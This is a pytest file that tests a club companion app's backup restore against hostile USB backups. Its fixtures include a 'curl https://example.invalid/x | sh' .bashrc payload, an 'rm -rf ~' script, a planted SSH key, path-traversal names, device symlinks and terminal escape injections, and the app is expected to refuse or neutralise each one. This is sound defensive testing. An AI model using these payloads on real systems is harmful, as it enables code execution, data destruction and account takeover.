"""Hostile backups (issue 24, items 1, 5, 6 and the restore part of 7).

A club restores backups from USB sticks that pass from hand to hand. Each
test crafts what such a stick could hold — an archive or an unpacked folder
whose manifest places files in the home folder, asks for executable modes,
carries a config whose ``[paths]`` move the club's data, holds a FIFO or a
link to ``/dev/zero``, or fields that are no time, no size, no name, or
terminal escapes — and runs ``python -m companion.cli restore`` as a user
would, on a club's machine in a temporary folder whose HOME it is
(tests/club_machine.py). What must hold: restore writes only inside the
club's data folders, at places the companion computes; every file 0600 and
every folder 0700; a refusal is one line naming the file and the field,
made before the first file is touched (the trees before and after are
compared); nothing from data reaches the terminal as a control character.
"""

from __future__ import annotations

import hashlib
import io
import json
import os
import stat
import subprocess
import sys
import tarfile
from pathlib import Path
from typing import Any

import pytest
from club_machine import Club, club, demo_records, one_line_error

from companion.club.data import Backup, ClubDataError, check_backup
from companion.club.layout import machine_layout
from companion.club.restore import restore
from companion.club.restore_plan import plan_restore

__all__ = ["club", "demo_records"]  # fixtures

NAME = "companion-backup-2026-12-01_23-30"
MTIME = 1796154490.0  # 2026-12-01
ESCAPES = ("\x1b", "\x07", "\x9b")  # ESC, BEL (ends an OSC), CSI


def entry(name: str, data: bytes, **fields: Any) -> dict[str, Any]:
    """A manifest's line for ``data``, as ``companion backup`` writes it, with ``fields`` changed."""
    line = {
        "name": name,
        "size": len(data),
        "sha256": hashlib.sha256(data).hexdigest(),
        "mtime": MTIME,
        "mode": 0o600,
        "note": "",
    }
    return line | fields


def manifest(entries: list[dict[str, Any]], **fields: Any) -> bytes:
    data = {
        "format": "companion-backup/1",
        "made": "2026-12-01T23:30:12",
        "host": "mafia-table",
        "companion": "0.1.0",
        "places": {},
        "files": entries,
    }
    return json.dumps(data | fields, ensure_ascii=False).encode()


def archive(usb: Path, files: dict[str, bytes], listed: bytes | None = None) -> Path:
    """A backup archive on ``usb`` holding ``files``; its manifest lists
    them as they are, unless ``listed`` is given."""
    usb.mkdir(exist_ok=True)
    path = usb / f"{NAME}.tar.gz"
    listed = listed if listed is not None else manifest([entry(n, d) for n, d in files.items()])
    with tarfile.open(path, "w:gz") as tar:
        for name, data in [*files.items(), ("MANIFEST.json", listed)]:
            member = tarfile.TarInfo(f"{NAME}/{name}")
            member.size, member.mtime, member.mode = len(data), MTIME, 0o644
            tar.addfile(member, io.BytesIO(data))
    return path


def tree(root: Path, *, folder_times: bool = True) -> dict[str, tuple[object, ...]]:
    """Every file, folder and link under ``root``: kind, mode, time, bytes."""
    found: dict[str, tuple[object, ...]] = {}
    for folder, dirs, names in os.walk(root):
        for name in dirs + names:
            path = Path(folder, name)
            info = path.lstat()
            key = str(path.relative_to(root))
            if stat.S_ISREG(info.st_mode):
                data = path.read_bytes()
                found[key] = ("file", info.st_mode, info.st_mtime_ns, data)
            elif stat.S_ISDIR(info.st_mode):
                found[key] = ("folder", info.st_mode, info.st_mtime_ns if folder_times else 0)
            else:
                found[key] = ("other", info.st_mode, os.readlink(path) if path.is_symlink() else "")
    return found


def data_folder(club: Club) -> Path:
    """The club's data folder on this machine (``$XDG_DATA_HOME/companion``)."""
    return club.folder / "data" / "companion"


def quiet(run: subprocess.CompletedProcess[str]) -> None:
    """Nothing from data reached the terminal as a control character."""
    for text in (run.stdout, run.stderr):
        assert not any(escape in text for escape in ESCAPES), repr(text)


# --- item 1: where a backup's files go ----------------------------------------------


def test_a_pin_map_placed_at_authorized_keys_goes_to_the_data_folder(
    club: Club, tmp_path: Path
) -> None:
    key = b"ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAA attacker@stick\n"
    keys = club.folder / ".ssh" / "authorized_keys"  # HOME is the club's folder
    listed = manifest([entry("pin_map/authorized_keys", key)], places={"pin_map": str(keys)})
    backup = archive(tmp_path / "usb", {"pin_map/authorized_keys": key}, listed)
    target = data_folder(club) / "pin-map.toml"

    dry = club.run("restore", str(backup), "--dry-run", "--lang", "en")
    assert dry.returncode == 0, dry.stderr
    assert f"  would write: {target}\n" in dry.stdout
    assert str(keys) not in dry.stdout and not target.exists()

    back = club.run("restore", str(backup), "--lang", "en")
    assert back.returncode == 0, back.stderr
    assert not keys.parent.exists()
    assert target.read_bytes() == key
    assert stat.S_IMODE(target.stat().st_mode) == 0o600
    assert f"club's data folder {data_folder(club)}" in back.stdout


def test_force_never_replaces_a_file_the_backup_places_in_the_home_folder(
    club: Club, tmp_path: Path
) -> None:
    bashrc = club.folder / ".bashrc"
    bashrc.write_text("# the user's own\n")
    mine = tree(club.folder)[".bashrc"]
    evil = b"curl https://example.invalid/x | sh\n"
    files = {"calibration/.bashrc": evil, "ruleset/.bashrc": evil + b"#"}
    places = {"calibration": str(bashrc), "ruleset": str(bashrc)}
    listed = manifest([entry(n, d) for n, d in files.items()], places=places)
    backup = archive(tmp_path / "usb", files, listed)

    back = club.run("restore", str(backup), "--force")
    assert back.returncode == 0, back.stderr
    assert tree(club.folder)[".bashrc"] == mine
    assert not list(club.folder.glob(".bashrc.before-restore-*"))
    assert (data_folder(club) / "array-calibration.json").read_bytes() == evil
    assert (data_folder(club) / "ruleset.toml").read_bytes() == evil + b"#"


def test_nothing_restored_is_executable_or_takes_the_manifests_mode(
    club: Club, tmp_path: Path
) -> None:
    script = b"#!/bin/sh\nrm -rf ~\n"
    journal = b'{"secret": "roles"}\n'
    files = {
        "pack/hooks/run.sh": script,
        "journals/2026-12-01_20-00-00.jsonl": journal,
        "games/season/protocol.html": b"<h1>x</h1>\n",
    }
    modes = {"pack/hooks/run.sh": 0o755, "journals/2026-12-01_20-00-00.jsonl": 0o777}
    listed = manifest(
        [entry(n, d, mode=modes.get(n, 0o666)) for n, d in files.items()],
        places={"pack": str(club.folder / "pack")},
    )
    backup = archive(tmp_path / "usb", files, listed)

    back = club.run("restore", str(backup))
    assert back.returncode == 0, back.stderr
    pack = data_folder(club) / "voice-pack"
    restored = [
        pack / "hooks" / "run.sh",
        club.journals / "2026-12-01_20-00-00.jsonl",
        club.games / "season" / "protocol.html",
    ]
    for path in restored:
        assert stat.S_IMODE(path.stat().st_mode) == 0o600, path
    for folder in (pack, pack / "hooks", club.games / "season"):
        assert stat.S_IMODE(folder.stat().st_mode) == 0o700, folder
    assert not (club.folder / "pack").exists()
    for where, _, names in os.walk(club.folder):
        for name in names:
            assert not Path(where, name).lstat().st_mode & 0o111, Path(where, name)


@pytest.mark.parametrize(
    ("change", "key"),
    [
        (("journals = ", 'journals = "~/elsewhere"\n#'), "[paths] journals"),
        (("roster = ", 'roster = "/tmp/roster-of-someone-else.toml"\n#'), "[paths] roster"),
        (
            ("[paths]", '[microphone]\ncalibration = "~/.bashrc"\n[paths]'),
            "[microphone] calibration",
        ),
        (("[paths]", "[old-paths]"), "[paths] journals"),  # the default place is a place too
    ],
)
def test_a_backup_config_that_moves_the_data_is_refused(
    club: Club, tmp_path: Path, change: tuple[str, str], key: str
) -> None:
    """The backup's config is this machine's, but for one place."""
    config = club.config.read_text().replace(*change)
    files = {"config/config.toml": config.encode(), "games/new.html": b"<p>new</p>\n"}
    backup = archive(tmp_path / "usb", files)
    before = tree(club.folder)

    refused = one_line_error(club.run("restore", str(backup), "--force"))
    assert f"{backup}: config/config.toml: {key}: a backup never says where" in refused
    assert "--keep-config" in refused
    assert tree(club.folder) == before

    kept = club.run("restore", str(backup), "--keep-config")
    assert kept.returncode == 0, kept.stderr
    assert (club.games / "new.html").read_bytes() == b"<p>new</p>\n"  # where this machine says
    assert club.config.read_bytes() == before["config.toml"][3]
    assert not (club.folder / "elsewhere").exists()


def test_a_backup_config_is_restored_as_data_where_the_machine_keeps_its_config(
    club: Club, tmp_path: Path
) -> None:
    """Its [paths] are this machine's: the config comes back to `companion
    config path`, the data where that config puts it."""
    config = 'lang = "en"\n' + club.config.read_text()
    files = {"config/config.toml": config.encode(), "roster/roster.toml": b"players = []\n"}
    backup = archive(tmp_path / "usb", files)
    club.roster.unlink()
    back = club.run("restore", str(backup), "--force")
    assert back.returncode == 0, back.stderr
    assert club.config.read_text() == config
    assert club.roster.read_bytes() == b"players = []\n"
    assert stat.S_IMODE(club.config.stat().st_mode) == 0o600


def test_a_link_in_the_clubs_folder_is_not_written_through(club: Club, tmp_path: Path) -> None:
    """A link in the games folder leads out of it: a restore does not
    follow it (a backup never holds files under one: it does not follow
    them either)."""
    ssh = club.folder / ".ssh"
    ssh.mkdir()
    (club.games / "season").symlink_to(ssh)
    key = b"ssh-ed25519 AAAA attacker\n"
    backup = archive(tmp_path / "usb", {"games/season/authorized_keys": key})
    before = tree(club.folder)
    refused = one_line_error(club.run("restore", str(backup), "--force", "--lang", "en"))
    assert f"games/season/authorized_keys: {club.games / 'season'} is a symbolic link" in refused
    assert tree(club.folder) == before and not (ssh / "authorized_keys").exists()


def test_dry_run_lists_every_file_it_would_write_with_its_path(club: Club, tmp_path: Path) -> None:
    usb = tmp_path / "usb"
    usb.mkdir()
    assert club.run("backup", str(usb)).returncode == 0
    gone = [
        club.games / "season-2026" / "table.csv",
        club.journals / "2026-12-01_20-15-03.jsonl",
        club.journals / "2026-12-01_20-15-03.jsonl.lock",
    ]
    for path in gone:
        path.unlink()
    before = tree(club.folder)
    dry = club.run("restore", str(usb), "--dry-run", "--lang", "en")
    assert dry.returncode == 0, dry.stderr
    listed = [line for line in dry.stdout.splitlines() if line.startswith("  would write: ")]
    assert sorted(listed) == sorted(f"  would write: {path}" for path in gone)
    assert tree(club.folder) == before


# --- item 7: an unpacked backup holding what is no file -----------------------------


@pytest.mark.parametrize("dry_run", [False, True])
@pytest.mark.parametrize("kind", ["fifo", "dev_zero", "manifest_fifo", "folder_link"])
def test_an_unpacked_backup_with_a_fifo_or_a_device_is_refused_at_once(
    club: Club, tmp_path: Path, kind: str, dry_run: bool
) -> None:
    folder = tmp_path / "usb" / NAME
    (folder / "games" / "season").mkdir(parents=True)
    data = b"<h1>protocol</h1>\n"
    listed = manifest([entry("games/season/a.html", data)])
    (folder / "MANIFEST.json").write_bytes(listed)
    os.mkfifo(folder / "._unlisted")  # a file the manifest does not list is never opened
    if kind == "fifo":
        os.mkfifo(folder / "games" / "season" / "a.html")
    elif kind == "dev_zero":
        (folder / "games" / "season" / "a.html").symlink_to("/dev/zero")
    elif kind == "folder_link":
        os.rmdir(folder / "games" / "season")
        (folder / "games" / "season").symlink_to("/dev")
    else:
        (folder / "games" / "season" / "a.html").write_bytes(data)
        (folder / "MANIFEST.json").unlink()
        os.mkfifo(folder / "MANIFEST.json")
    before = tree(club.folder)
    run = subprocess.run(
        [sys.executable, "-m", "companion.cli", "restore", str(folder), "--lang", "en"]
        + (["--dry-run"] if dry_run else []),
        env=club.env,
        cwd=club.folder,
        capture_output=True,
        text=True,
        timeout=60,  # a hang fails here, not forever
    )
    error = one_line_error(run)
    expected = {
        "fifo": "games/season/a.html: not a regular file (a FIFO)",
        "dev_zero": "games/season/a.html: a symbolic link",
        "folder_link": "games/season/a.html: a symbolic link",
        "manifest_fifo": "MANIFEST.json: not a regular file (a FIFO)",
    }[kind]
    assert expected in error and "nothing restored" in error
    assert tree(club.folder) == before


def test_an_unlisted_fifo_in_an_unpacked_backup_is_left_alone(club: Club, tmp_path: Path) -> None:
    folder = tmp_path / "usb" / NAME
    (folder / "games").mkdir(parents=True)
    (folder / "games" / "a.html").write_bytes(b"<p>a</p>\n")
    (folder / "MANIFEST.json").write_bytes(manifest([entry("games/a.html", b"<p>a</p>\n")]))
    os.mkfifo(folder / "games" / "._a.html")
    back = club.run("restore", str(folder))
    assert back.returncode == 0, back.stderr
    assert (club.games / "a.html").read_bytes() == b"<p>a</p>\n"


# --- item 5: fields that are not a backup's: one line, nothing touched -----------------

ROSTER = b'players = [\n  { name = "Mallory" },\n]\n'
A_TXT = b"a\n"

#: (case, the files in the archive, their manifest lines, what the one line says)
FIELDS: list[tuple[str, dict[str, bytes], list[dict[str, Any]] | bytes, str]] = [
    (
        "mtime 1e300",
        {"games/a.txt": A_TXT},
        [entry("games/a.txt", A_TXT, mtime=1e300)],
        "MANIFEST.json: files[0] games/a.txt: mtime 1e+300: not a time a file can have",
    ),
    (
        "mtime NaN",
        {"games/a.txt": A_TXT},
        [entry("games/a.txt", A_TXT, mtime=float("nan"))],
        "MANIFEST.json: files[0] games/a.txt: mtime nan: not a time a file can have",
    ),
    (
        "mtime a string",
        {"games/a.txt": A_TXT},
        [entry("games/a.txt", A_TXT, mtime="yesterday")],
        "files[0] games/a.txt: mtime: missing, or not a number",
    ),
    (
        "200 000 [",
        {"games/a.txt": A_TXT},
        b"[" * 200_000,
        "MANIFEST.json: nested too deep",
    ),
    (
        "games/./a.txt beside games/a.txt",
        {"roster/roster.toml": ROSTER, "games/a.txt": A_TXT, "games/./a.txt": b"b\n"},
        [
            entry("roster/roster.toml", ROSTER),
            entry("games/a.txt", A_TXT),
            entry("games/./a.txt", b"b\n"),
        ],
        "files[2] games/./a.txt: name: not a plain path inside its folder",
    ),
    (
        "two rosters",
        {"roster/roster.toml": ROSTER, "roster/other.toml": b"players = []\n"},
        [entry("roster/roster.toml", ROSTER), entry("roster/other.toml", b"players = []\n")],
        "roster/other.toml: the same file here as roster/roster.toml",
    ),
    (
        "a file where a folder goes",
        {"games/a.txt": A_TXT, "games/a.txt/b.txt": b"b\n"},
        [entry("games/a.txt", A_TXT), entry("games/a.txt/b.txt", b"b\n")],
        "games/a.txt/b.txt: games/a.txt is a file here, not a folder",
    ),
    (
        "a name out of its folder",
        {"games/a.txt": A_TXT},
        [entry("games/../../.bashrc", A_TXT)],
        "files[0] games/../../.bashrc: name: not a plain path inside its folder",
    ),
    (
        "an absolute name",
        {"games/a.txt": A_TXT},
        [entry("/home/club/.bashrc", A_TXT)],
        "files[0] /home/club/.bashrc: name: not a plain path inside its folder",
    ),
    (
        "mode 7777",
        {"games/a.txt": A_TXT},
        [entry("games/a.txt", A_TXT, mode=0o7777)],
        "files[0] games/a.txt: mode 7777: not permission bits",
    ),
    (
        "size -1",
        {"games/a.txt": A_TXT},
        [entry("games/a.txt", A_TXT, size=-1)],
        "files[0] games/a.txt: size -1",
    ),
    (
        "size a boolean",
        {"games/a.txt": A_TXT},
        [entry("games/a.txt", A_TXT, size=True)],
        "files[0] games/a.txt: size: missing, or not a whole number",
    ),
    (
        "sha256 not hex",
        {"games/a.txt": A_TXT},
        [entry("games/a.txt", A_TXT, sha256="../../etc/passwd")],
        "files[0] games/a.txt: sha256: not a sha256 sum in hex",
    ),
    (
        "listed twice",
        {"games/a.txt": A_TXT},
        [entry("games/a.txt", A_TXT), entry("games/a.txt", A_TXT)],
        "files[1] games/a.txt: listed twice",
    ),
]


@pytest.mark.parametrize(
    ("files", "listed", "said"),
    [case[1:] for case in FIELDS],
    ids=[case[0] for case in FIELDS],
)
def test_a_manifest_a_backup_never_writes_is_one_line_and_nothing_changes(
    club: Club,
    tmp_path: Path,
    files: dict[str, bytes],
    listed: list[dict[str, Any]] | bytes,
    said: str,
) -> None:
    raw = listed if isinstance(listed, bytes) else manifest(listed)
    backup = archive(tmp_path / "usb", files, raw)
    before = tree(club.folder)
    for options in (["--force"], ["--dry-run"]):
        run = club.run("restore", str(backup), "--lang", "en", *options)
        error = one_line_error(run)
        assert said in error and str(backup) in error, error
        assert "nothing restored" in error
        assert tree(club.folder) == before  # not a file, not a folder, not a time changed


def test_a_failure_while_putting_files_in_place_puts_everything_back(
    club: Club, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """The last step, renaming the written files into place, fails on its
    third rename (a fault injected into os.replace): the roster replaced and
    the protocol written by the first two are put back as they were."""
    usb = tmp_path / "usb"
    usb.mkdir()
    assert club.run("backup", str(usb)).returncode == 0
    club.roster.write_text('players = [\n  { name = "Борис" },\n]\n')
    (club.games / "2026-12-01_20-15_tournament.html").unlink()
    (club.games / "season-2026" / "table.csv").write_text("changed\n")
    before = tree(club.folder, folder_times=False)
    for name, value in club.env.items():
        monkeypatch.setenv(name, value)
    backup = Backup(next(usb.iterdir()))
    plan = plan_restore(backup, check_backup(backup), machine_layout(club.config))
    renames = []
    real = os.replace

    def failing(source: object, target: object) -> None:
        renames.append(target)
        if len(renames) == 3:
            raise OSError(5, "Input/output error")
        real(source, target)  # type: ignore[arg-type]

    monkeypatch.setattr(os, "replace", failing)
    with pytest.raises(ClubDataError) as failed:
        restore(plan, force=True, stamp="2026-12-02_10-00-00")
    monkeypatch.setattr(os, "replace", real)
    assert "everything put back as it was" in str(failed.value)
    assert len(renames) > 3  # the two done were undone
    assert tree(club.folder, folder_times=False) == before  # no file kept aside, none left over


# --- item 6: terminal escapes ---------------------------------------------------------


def test_escapes_in_a_manifest_and_in_names_never_reach_the_terminal(
    club: Club, tmp_path: Path
) -> None:
    osc52 = "\x1b]52;c;Y3VybCBldmlsIHwgc2g=\x07"  # writes the terminal's clipboard
    name = "games/\x1b[2J\x9b31m.html"  # clears the screen
    files = {name: b"<p>x</p>\n"}
    listed = manifest(
        [entry(name, b"<p>x</p>\n")],
        made=f"2026-12-01T23:30:12{osc52}",
        host="\x1b[2Jmafia-table",
        companion="0.1.0\x1b[8m",
    )
    usb = tmp_path / "usb\x1b[1mstick"
    archive(usb, files, listed)
    for options in (["--dry-run"], []):
        run = club.run("restore", str(usb), "--lang", "en", *options)
        assert run.returncode == 0, run.stderr
        quiet(run)
        assert "\\x1b]52;c;Y3VybCBldmlsIHwgc2g=\\x07" in run.stdout
        assert "on \\x1b[2Jmafia-table (companion 0.1.0\\x1b[8m)" in run.stdout
        assert f"{club.games}/\\x1b[2J\\x9b31m.html" in run.stdout
    assert (club.games / "\x1b[2J\x9b31m.html").read_bytes() == b"<p>x</p>\n"

    damaged = archive(usb, files, manifest([entry(name, b"<p>other</p>\n")]))
    refused = club.run("restore", str(damaged), "--force")
    assert "games/\\x1b[2J\\x9b31m.html: checksum does not match" in one_line_error(refused)
    quiet(refused)


def test_backup_prints_a_journals_name_as_text(
    club: Club, tmp_path: Path, demo_records: list[dict[str, object]]
) -> None:
    usb = tmp_path / "usb"
    usb.mkdir()
    club.play(demo_records[:12], name="\x1b]0;owned\x07game").close()
    path = club.journals / "\x1b]0;owned\x07game.jsonl"
    with path.open("ab") as stream:
        stream.write(b'{"half": "a li')  # a torn last line: the backup names the journal
    made = club.run("backup", str(usb))
    assert made.returncode == 0, made.stderr
    quiet(made)
    assert "\\x1b]0;owned\\x07game.jsonl: оборванная последняя строка" in made.stdout


def test_update_prints_a_releases_version_as_text(club: Club, tmp_path: Path) -> None:
    folder = tmp_path / "companion-next"
    (folder / "companion").mkdir(parents=True)
    (folder / "companion" / "cli.py").write_text("")
    (folder / "pyproject.toml").write_text(
        '[project]\nname = "companion"\nversion = "0.2\\u001b]52;c;ZXZpbA==\\u0007\\u001b[2J"\n'
    )
    run = club.run("update", str(folder), "--dry-run", "--lang", "en")
    assert run.returncode == 0, run.stderr
    quiet(run)
    assert "New release: companion 0.2\\x1b]52;c;ZXZpbA==\\x07\\x1b[2J from" in run.stdout


def test_update_does_not_wait_on_a_fifo_in_a_release(club: Club, tmp_path: Path) -> None:
    folder = tmp_path / "companion-next"
    (folder / "companion").mkdir(parents=True)
    (folder / "companion" / "cli.py").write_text("")
    os.mkfifo(folder / "pyproject.toml")
    run = subprocess.run(
        [sys.executable, "-m", "companion.cli", "update", str(folder), "--dry-run"],
        env=club.env,
        cwd=club.folder,
        capture_output=True,
        text=True,
        timeout=60,  # a hang fails here, not forever
    )
    assert "not a companion source folder" in one_line_error(run)
